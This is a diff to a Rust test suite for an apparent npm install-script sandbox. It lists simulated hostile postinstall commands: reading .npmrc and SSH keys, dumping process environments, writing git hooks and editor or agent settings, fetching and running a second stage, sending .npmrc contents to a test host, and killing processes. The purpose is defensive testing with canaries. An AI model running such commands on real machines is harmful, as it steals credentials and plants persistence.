@@ -21,8 +21,8 @@ struct Attack {
     script: &'static str,
     /// A file whose content tells, and what it holds where the attack came through.
     shows: (&'static str, Shows),
-    /// The act and a part of its subject; without one, nothing can be seen of it.
-    told: Option<(&'static str, &'static str)>,
+    /// The act and a part of its subject; or a variable that is withheld.
+    told: (&'static str, &'static str),
 }
 
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
@@ -37,7 +37,7 @@ const fn attack(
     name: &'static str,
     script: &'static str,
     shows: (&'static str, Shows),
-    told: Option<(&'static str, &'static str)>,
+    told: (&'static str, &'static str),
 ) -> Attack {
     Attack { name, script, shows, told }
 }
@@ -50,139 +50,145 @@ const ATTACKS: &[Attack] = &[
         "reads-npmrc",
         "cat \"$R/house/.npmrc\" > stolen || true",
         ("p/node_modules/reads-npmrc/stolen", Canary),
-        Some(("read", "/house/.npmrc")),
+        ("read", "/house/.npmrc"),
     ),
     attack(
         "reads-home",
         "cat \"$HOME/.npmrc\" > stolen || true",
         ("p/node_modules/reads-home/stolen", Canary),
-        Some(("read", "/.npmrc")),
+        ("read", "/.npmrc"),
     ),
     attack(
         "reads-ssh",
         "cat \"$R/house/.ssh/id_fake\" > stolen || true",
         ("p/node_modules/reads-ssh/stolen", Canary),
-        Some(("read", "/house/.ssh/id_fake")),
+        ("read", "/house/.ssh/id_fake"),
     ),
     attack(
         "reads-linked",
         "ln -s \"$R/house\" way && cat way/.npmrc > stolen || true",
         ("p/node_modules/reads-linked/stolen", Canary),
-        Some(("read", "/house/.npmrc")),
+        ("read", "/house/.npmrc"),
     ),
     attack(
         "reads-environ",
         "tr '\\0' '\\n' < \"/proc/$P/environ\" > stolen || true",
         ("p/node_modules/reads-environ/stolen", Canary),
-        Some(("read", "/environ")),
+        ("read", "/environ"),
     ),
-    attack("reads-variables", "env > stolen", ("p/node_modules/reads-variables/stolen", Canary), None),
+    // That it asks for one is not seen: which it did not get is told.
+    attack(
+        "reads-variables",
+        "env > stolen",
+        ("p/node_modules/reads-variables/stolen", Canary),
+        ("withheld", "SECRET_TOKEN"),
+    ),
     attack(
         "reads-project",
         "cat ../../.env > stolen || true",
         ("p/node_modules/reads-project/stolen", Canary),
-        Some(("read", "/p/.env")),
+        ("read", "/p/.env"),
     ),
     // What is not its own, written.
     attack(
         "writes-modules",
         "echo canary > ../written.js || true",
         ("p/node_modules/written.js", Canary),
-        Some(("write", "/node_modules/written.js")),
+        ("write", "/node_modules/written.js"),
     ),
     attack(
         "writes-neighbour",
         "echo canary > ../victim/index.js || true",
         ("p/node_modules/victim/index.js", Canary),
-        Some(("write", "/victim/index.js")),
+        ("write", "/victim/index.js"),
     ),
     attack(
         "writes-hooks",
         "echo canary > ../../.git/hooks/post-checkout || true",
         ("p/.git/hooks/post-checkout", Canary),
-        Some(("write", "/.git")),
+        ("write", "/.git"),
     ),
     attack(
         "writes-editor",
         "mkdir -p ../../.vscode && echo canary > ../../.vscode/tasks.json || true",
         ("p/.vscode/tasks.json", Canary),
-        Some(("write", "/.vscode")),
+        ("write", "/.vscode"),
     ),
     attack(
         "writes-agent",
         "mkdir -p ../../.claude && echo canary > ../../.claude/settings.json || true",
         ("p/.claude/settings.json", Canary),
-        Some(("write", "/.claude")),
+        ("write", "/.claude"),
     ),
     attack(
         "writes-manifest",
         "sed -i 's/\"version\"/\"canary\": 1, \"version\"/' ../../package.json || true",
         ("p/package.json", Canary),
-        Some(("read", "/p/package.json")),
+        ("read", "/p/package.json"),
     ),
     attack(
         "writes-path",
         "echo canary > \"$R/bin/tool\" || true",
         ("bin/tool", Canary),
-        Some(("write", "/bin/tool")),
+        ("write", "/bin/tool"),
     ),
     attack(
         "writes-record",
         "echo canary > ../.nodeward-installed.json || true",
         ("p/node_modules/.nodeward-installed.json", Canary),
-        Some(("write", "/.nodeward-installed.json")),
+        ("write", "/.nodeward-installed.json"),
     ),
     attack(
         "renames-out",
         "echo canary > mine && mv mine ../moved || true",
         ("p/node_modules/moved", Canary),
-        Some(("write", "/node_modules/moved")),
+        ("write", "/node_modules/moved"),
     ),
     attack(
         "renames-in",
         "mv ../taken taken || true",
         ("p/node_modules/taken/index.js", Gone),
-        Some(("write", "/taken")),
+        ("write", "/taken"),
     ),
     attack(
         "removes-decoy",
         "rm -rf \"$R/house/decoy\" || true",
         ("house/decoy/file", Gone),
-        Some(("write", "/house/decoy")),
+        ("write", "/house/decoy"),
     ),
     attack(
         "knows-its-victim",
         "[ \"$npm_package_name\" = knows-its-victim ] && echo canary > ../../payload.js || true",
         ("p/payload.js", Canary),
-        Some(("write", "/p/payload.js")),
+        ("write", "/p/payload.js"),
     ),
     // The network, and other processes.
-    attack("connects", "node ../net.js tcp $A $T || true", ("tcp", Canary), Some(("connect", ":"))),
+    attack("connects", "node ../net.js tcp $A $T || true", ("tcp", Canary), ("connect", ":")),
     attack(
         "downloads",
         "node ../net.js get $A $T && sh ./second-stage || true",
         ("second", Canary),
-        Some(("connect", ":")),
+        ("connect", ":"),
     ),
     attack(
         "publishes",
         "node ../net.js put $A $T \"$(cat \"$R/house/.npmrc\" 2>/dev/null)\" || true",
         ("published", Canary),
-        Some(("connect", ":")),
+        ("connect", ":"),
     ),
     attack(
         "publishes-often",
         "for i in $(seq 20); do node ../net.js put $A $T canary; done || true",
         ("published", Canary),
-        Some(("connect", ":")),
+        ("connect", ":"),
     ),
-    attack("sends", "node ../net.js udp $A $U || true", ("udp", Canary), Some(("connect", ":"))),
-    attack("signals", "kill -9 $P || true", ("outside", Gone), Some(("signal", "process"))),
+    attack("sends", "node ../net.js udp $A $U || true", ("udp", Canary), ("connect", ":")),
+    attack("signals", "kill -9 $P || true", ("outside", Gone), ("signal", "process")),
     attack(
         "stays",
         "(sleep 1; echo canary > late; echo canary > \"$R/late\") > /dev/null 2>&1 &",
         ("late", Canary),
-        None,
+        ("outlive", "sleep 1"),
     ),
 ];
 
@@ -320,13 +326,17 @@ fn came_through(project: &Project, outside: &mut Outside) -> Vec<&'static str> {
 }
 
 fn told(report: &Value, attack: &Attack) -> bool {
-    let Some((act, subject)) = attack.told else { return true };
+    let (act, subject) = attack.told;
     let packages = report["packages"].as_array().into_iter().flatten();
-    let mut events = packages
+    let scripts: Vec<&Value> = packages
         .filter(|package| package["package"] == format!("{}@1.0.0", attack.name))
         .flat_map(|package| package["scripts"].as_array().into_iter().flatten())
-        .flat_map(|script| script["events"].as_array().into_iter().flatten());
-    events.any(|event| {
+        .collect();
+    let list = |name| scripts.iter().flat_map(move |script| script[name].as_array().into_iter().flatten());
+    if act == "withheld" {
+        return list("withheld").any(|name| name == subject);
+    }
+    list("events").any(|event| {
         event["act"] == act
             && event["fate"] == "denied"
             && event["subject"].as_str().unwrap().contains(subject)
